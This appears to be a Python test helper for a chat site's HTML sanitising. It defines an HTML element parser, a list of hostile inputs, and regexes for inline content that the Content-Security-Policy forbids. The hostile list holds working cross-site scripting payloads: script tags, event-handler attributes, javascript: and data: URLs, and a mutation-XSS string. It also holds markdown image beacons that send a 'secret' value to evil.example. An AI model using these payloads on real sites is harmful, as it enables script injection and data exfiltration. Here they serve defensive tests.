"""HTML as the tests read it: its real elements (`Elements`), what a hostile model or user writes
(`HOSTILE`), and what the Content-Security-Policy forbids inline (`INLINE`, chatsite/settings.py)."""

import re
from html.parser import HTMLParser


class Elements(HTMLParser):
    """The real elements and attributes of an HTML fragment (text that only looks like tags is not one)."""

    def __init__(self, html):
        super().__init__()
        self.found = []
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, dict(attrs)))


HOSTILE = [
    "<script>window.pwned = 1</script>",
    '<img src="x" onerror="window.pwned=1">',
    "[click](javascript:window.pwned=1)",
    '<a href="javascript:alert(1)">x</a>',
    "<svg onload=alert(1)><circle r=1 /></svg>",
    '<iframe src="https://evil.example/"></iframe>',
    "![beacon](https://evil.example/track.png?c=secret)",
    '<div style="background:url(https://evil.example/x)">x</div>',
    "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "```html\n<script>alert(1)</script>\n```",
    '<p onclick="alert(1)">hi</p>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
]


INLINE = {
    "an inline script": re.compile(r"<script\b(?![^>]*\bsrc=)[^>]*>", re.IGNORECASE),
    "a style element": re.compile(r"<style\b", re.IGNORECASE),
    "a style attribute": re.compile(r"\sstyle=", re.IGNORECASE),
    "an event handler attribute": re.compile(r"\s(on[a-z]+|hx-on[:\w-]*)=", re.IGNORECASE),
    "a javascript: URL": re.compile(r"javascript:", re.IGNORECASE),
}
